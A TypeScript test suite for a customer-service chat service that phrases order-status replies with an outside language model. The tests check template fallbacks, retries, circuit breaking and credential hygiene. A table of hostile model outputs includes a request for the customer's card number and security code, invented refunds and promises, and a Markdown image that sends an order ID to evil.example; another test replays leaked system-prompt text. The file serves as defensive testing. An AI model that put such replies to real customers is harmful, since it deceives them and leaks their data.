import { expect } from 'chai';
import type { Reply } from '../../harness/client.js';
import { startService, type TestService } from '../../harness/service.js';
import { json, startModelServer, WIRES, type Behaviour, type ModelServer } from './model-server.js';

const STATUS = 'Where is ORD-1002? Some words nobody else would use: quokka marmalade.';
const TRUE_REPLY = 'Your order ORD-1002 has shipped. The tracking number is NL4403125540.';
const KEY = 'sk-very-secret-credential';

for (const [provider, wire] of Object.entries(WIRES))
  describe(`the ${provider} composer`, () => {
    let model: ModelServer;
    let service: TestService;
    const start = (more: Readonly<Record<string, string>> = {}) =>
      startService({
        env: {
          AGENT_CHAT__BACKEND: provider,
          AGENT_CHAT__MODEL: 'asked-model',
          AGENT_CHAT__API_KEY: KEY,
          AGENT_CHAT__BASE_URL: provider === 'openai' ? `${model.url}/v1` : model.url,
          AGENT_CHAT__CIRCUIT_FAILURES: '1000',
          ...more
        }
      });
    before(async () => {
      model = await startModelServer();
      service = await start();
    });
    after(async () => {
      await service.stop();
      await model.stop();
    });
    beforeEach(() => model.seen.splice(0));

    const ask = async (behaviour: Behaviour, of = service) => {
      model.behave(behaviour);
      const talk = await of.client().talk('demo@example.com');
      return await talk.say(STATUS);
    };
    const saying = (text: string) => json(wire.answer(text));

    it('has a decided answer phrased, and counts the tokens of the run', async () => {
      const reply = await ask(saying(TRUE_REPLY));
      expect(reply).to.include({ state: 'answered', provider, model: 'wire-model-1', reply: TRUE_REPLY });
      expect(reply.warnings).to.deep.equal([]);
      expect([model.seen.length, model.seen[0]!.path]).to.deep.equal([1, wire.path]);
      expect(model.seen[0]!.body.model).to.equal('asked-model');
      expect(model.seen[0]!.headers.authorization).to.equal(`Bearer ${KEY}`);
      const { items } = (await service.client().get('/v1/runs?limit=1')).body;
      expect(items[0]).to.include({ input_tokens: 321, output_tokens: 45, provider });
      expect(service.counted('agent.model_tokens', { provider, direction: 'output' })).to.equal(45);
    });

    it('shows the model the policy and fenced material, and nothing the customer wrote', async () => {
      await ask(saying(TRUE_REPLY));
      const [system, user] = [wire.system(model.seen[0]!), wire.user(model.seen[0]!)];
      expect(system).to.match(/^You word the answers/);
      const nonce = /<<draft ([0-9a-f]{16})>>/.exec(user)![1]!;
      expect(user).to.contain('NL4403125540').and.to.contain(`<</tool_result ${nonce}>>`);
      expect(JSON.stringify(model.seen[0]!.body)).not.to.match(/quokka|demo@example\.com/);
      await ask(saying(TRUE_REPLY));
      expect(wire.user(model.seen[1]!), 'a nonce is used once').not.to.contain(nonce);
    });

    const UNUSABLE: Readonly<Record<string, readonly [reason: string, behaviour: Behaviour]>> = {
      'a reply cut short': ['truncated', json(wire.answer('Your order ORD-1002 has', 'truncated'))],
      'an empty reply': ['empty', json(wire.answer(' \n '))],
      'no reply': ['empty', json(wire.answer(null))],
      'a refusal': ['refused', json(wire.answer('I would rather not.', 'refused'))],
      'a reply of 9,000 characters': ['oversized', saying('It has shipped. '.repeat(600))],
      'a body of two megabytes': ['oversized', json({ ...wire.answer('x'), padding: 'y'.repeat(2 << 20) })],
      'a body that is no JSON': [
        'malformed',
        response => void response.writeHead(200, { 'content-type': 'application/json' }).end('{"choices": [')
      ],
      'JSON of another shape': ['malformed', json({ hello: 'world' })],
      'a page of HTML': [
        'malformed',
        response => void response.writeHead(200, { 'content-type': 'text/html' }).end('<h1>proxy</h1>')
      ],
      'an error status': ['rejected', json({ error: { message: 'no such model', type: 'x' } }, 404)],
      'an overloaded server': ['unavailable', json({ error: { message: 'overloaded', type: 'x' } }, 529)],
      'a redirect': [
        'unavailable',
        response => void response.writeHead(302, { location: 'http://127.0.0.1:1/' }).end()
      ],
      'a closed connection': ['unavailable', response => void response.destroy()]
    };
    const LATE: Readonly<Record<string, Behaviour>> = {
      'no answer in time': () => {},
      'an answer that never ends': response =>
        void response.writeHead(200, { 'content-type': 'application/json' }).write('{"choices":')
    };
    const expectTemplate = (reply: Reply, reason: string) => {
      expect(reply).to.include({ state: 'answered', provider: 'template', model: 'none' });
      expect(reply.reply).to.contain('NL4403125540');
      expect(reply.warnings).to.deep.equal([
        `composer_fallback: ${provider} gave no usable reply (${reason}), it was composed from a template`
      ]);
    };
    for (const [name, [reason, behaviour]] of Object.entries(UNUSABLE))
      it(`leaves ${name} to the template, and says so`, async () => expectTemplate(await ask(behaviour), reason));

    it('leaves what is late to the template, and says so', async () => {
      const hasty = await start({ AGENT_CHAT__TIMEOUT_SECONDS: '0.3' });
      for (const behaviour of Object.values(LATE)) expectTemplate(await ask(behaviour, hasty), 'timeout');
      await hasty.stop();
    });

    it('counts the tokens of an answer that could not be used', async () => {
      await ask(json(wire.answer('Your order', 'truncated')));
      const { items } = (await service.client().get('/v1/runs?limit=1')).body;
      expect(items[0]).to.include({ input_tokens: 321, output_tokens: 45, provider: 'template' });
    });

    it('asks once more when the first request fails', async () => {
      let asked = 0;
      const reply = await ask((response, seen) =>
        ++asked === 1 ? json({ error: { message: 'busy' } }, 503)(response, seen) : saying(TRUE_REPLY)(response, seen)
      );
      expect([reply.provider, asked]).to.deep.equal([provider, 2]);
    });

    const HOSTILE: Readonly<Record<string, string>> = {
      'a wrong figure': 'Your order ORD-1002 has shipped with 17 parcels.',
      'a swapped identifier': 'Your order ORD-1001 has shipped. The tracking number is NL4403125540.',
      'an invented promise': `${TRUE_REPLY} It will certainly arrive tomorrow, or we refund you double.`,
      'an invented action': `${TRUE_REPLY} I have refunded the shipping costs to your card.`,
      'instructions to the reader': `${TRUE_REPLY} Reply with your card number and its security code to confirm.`,
      'a Markdown link': `${TRUE_REPLY} [Track it here](https://tracking.example.net/NL4403125540).`,
      'a bare address': `${TRUE_REPLY} See tracking.example.net for more.`,
      'an image that calls home': `${TRUE_REPLY} ![](https://evil.example/p.png?d=ORD-1002)`
    };
    for (const [name, text] of Object.entries(HOSTILE))
      it(`never sends ${name}: a person takes over`, async () => {
        const reply = await ask(saying(text));
        expect(reply).to.include({ state: 'escalated', escalation_reason: 'unverifiable_answer' });
        expect(reply.reply).not.to.contain(text);
        expect(reply.unverified_claims).not.to.deep.equal([]);
      });

    it('never sends the system policy', async () => {
      await ask(saying(TRUE_REPLY));
      const leak = wire.system(model.seen[0]!).split(' ').slice(4, 16).join(' ');
      const reply = await ask(saying(leak));
      expect(reply).to.include({ state: 'escalated', escalation_reason: 'unverifiable_answer' });
      expect(reply.reply).not.to.contain(leak);
    });

    it('leaves neither the credential nor an answer in the log', () => {
      const log = JSON.stringify(service.log);
      expect(log).to.contain('composer.failed');
      expect(log).not.to.contain(KEY).and.not.to.contain('quokka').and.not.to.contain('security code');
    });
  });

describe('a chosen model composer', () => {
  it('does not start without a model and a credential, and names both settings', async () => {
    let message = '';
    await startService({ env: { AGENT_CHAT__BACKEND: 'anthropic' } }).catch(error => void (message = error.message));
    expect(message).to.contain('composer_unconfigured');
    expect(message).to.contain('AGENT_CHAT__MODEL').and.contain('AGENT_CHAT__API_KEY');
  });

  it('that keeps failing is left alone for a while, which readiness says, and is tried again', async () => {
    const model = await startModelServer();
    /** One to which its model has been of no use twice. */
    const failed = async (resetSeconds: string) => {
      model.behave(json({ error: { message: 'bad' } }, 400));
      const service = await startService({
        env: {
          AGENT_CHAT__BACKEND: 'openai',
          AGENT_CHAT__MODEL: 'm',
          AGENT_CHAT__BASE_URL: model.url,
          AGENT_CHAT__CIRCUIT_FAILURES: '2',
          AGENT_CHAT__CIRCUIT_RESET_SECONDS: resetSeconds
        }
      });
      const talk = await service.client().talk('demo@example.com');
      for (let i = 0; i < 2; i++) expect((await talk.say(STATUS)).warnings[0]).to.contain('(rejected)');
      model.behave(json(WIRES.openai!.answer(TRUE_REPLY)));
      const warnings = async () => (await service.client(null).get('/readyz')).body.warnings;
      return { service, talk, warnings };
    };
    const [patient, quick] = [await failed('3600'), await failed('0.05')];
    try {
      const { length } = model.seen;
      expect((await patient.talk.say(STATUS)).warnings[0]).to.contain('(circuit_open)');
      expect(model.seen).to.have.length(length);
      expect(await patient.warnings()).to.deep.equal([
        'composer_degraded: openai keeps failing; replies are composed from templates for now'
      ]);
      while ((await quick.talk.say(STATUS)).provider !== 'openai');
      expect(await quick.warnings()).to.deep.equal([]);
    } finally {
      await Promise.all([patient, quick].map(({ service }) => service.stop()));
      await model.stop();
    }
  });
});
